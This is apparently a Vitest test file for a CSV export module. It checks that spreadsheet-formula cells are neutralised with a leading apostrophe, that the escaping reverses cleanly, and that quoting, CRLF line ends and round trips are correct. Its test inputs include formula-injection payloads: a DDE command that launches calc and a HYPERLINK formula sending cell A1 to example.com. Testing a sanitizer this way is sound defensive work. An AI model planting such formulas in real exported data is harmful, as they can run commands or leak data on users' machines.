import { csvParseRows } from 'd3';
import { describe, expect, it } from 'vitest';
import { fc } from '../../tests/fixtures/property.ts';
import { csv } from '../shared/csv.ts';
import { unsafeText } from '../../tests/fixtures/unsafe-text.ts';
import { safeText } from '../shared/safe-text.ts';
import { tableCsv } from './csv.ts';
import type { CellValue } from './types.ts';
import { sample } from '../languages/sample.ts';

/** What a reader of the file sees, by a parser that is not ours. */
const seen = (rows: readonly (readonly CellValue[])[]): string[][] => csvParseRows(csv(rows));

describe('texts that a spreadsheet would run are made safe', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://example.com/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    '+44',
    '-5 %',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u200B=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    "'=1",
    "''@x",
    '2023年3月10日',
    '2022年12月',
    '4月19日',
    "'4月19日",
  ])('%j', (text) => {
    expect(safeText(text)).toBe(`'${text}`);
    expect(unsafeText(safeText(text))).toBe(text);
    expect(seen([[text]])).toEqual([[`'${text}`]]);
  });

  it.each([
    '增长=2',
    '5-10',
    '2018年',
    '2023年3月10日前',
    '7月',
    "'quoted'",
    '最高 1: 1',
    '',
    'a',
    '— dash',
    '·',
  ])('%j stays as it is', (text) => {
    expect(safeText(text)).toBe(text);
    expect(unsafeText(text)).toBe(text);
  });

  it('and no text is lost by it', () => {
    const characters = fc.constantFrom(...'=+-@＝＋－＠\'" \t\r\n,;ab香\u200B\uFEFF');
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(characters, fc.string()) }), (text) => {
        const safe = safeText(text);
        expect(safe).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
        expect(unsafeText(safe)).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('a CSV file', () => {
  it('begins with a byte order mark and its head, and ends every line with CRLF', () => {
    const label = sample('编号', 'Id');
    const column = { label, description: 'An id.', type: 'string' } as const;
    const table = {
      columns: [
        { ...column, name: 'id' },
        { ...column, name: 'title_zh' },
      ],
      rows: [['a', '香港，“甲”']],
    };
    expect(tableCsv(table)).toBe('\uFEFFid,title_zh\r\na,香港，“甲”\r\n');
  });

  it('never changes a number, and leaves an empty cell empty', () => {
    expect(csv([[-5, 3.2, 3_000_000, 0, true, false, undefined]])).toBe(
      '-5,3.2,3000000,0,true,false,\r\n',
    );
  });

  it('quotes what would end a cell', () => {
    expect(csv([['a,b', 'c"d', 'e\r\nf', ' g']])).toBe('"a,b","c""d","e\r\nf"," g"\r\n');
  });

  it('is read as it was written', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom(...'=+-@\'",;\r\n\t 香港') }),
    );
    const cell = fc.oneof(
      text,
      fc.integer(),
      // Minus zero is the one number that its digits do not tell.
      fc.double({ noNaN: true, noDefaultInfinity: true }).map((number) => number + 0),
      fc.boolean(),
      fc.constant(undefined),
    );
    const rows = fc
      .integer({ min: 2, max: 5 })
      .chain((columns) => fc.array(fc.array(cell, { minLength: columns, maxLength: columns })));
    fc.assert(
      fc.property(rows, (written) => {
        const read = seen(written).map((row, i) =>
          row.map((value, j) => back(value, written[i]?.[j])),
        );
        expect(read).toEqual(
          written.map((row) => row.map((value) => (value === '' ? undefined : value))),
        );
      }),
      { numRuns: 500 },
    );
  });
});

/** A cell as it was, from what a parser gave. @param like a cell of the same type */
function back(value: string, like: CellValue): CellValue {
  if (typeof like === 'number') return Number(value);
  if (typeof like === 'boolean') return value === 'true';
  return value === '' ? undefined : unsafeText(value);
}
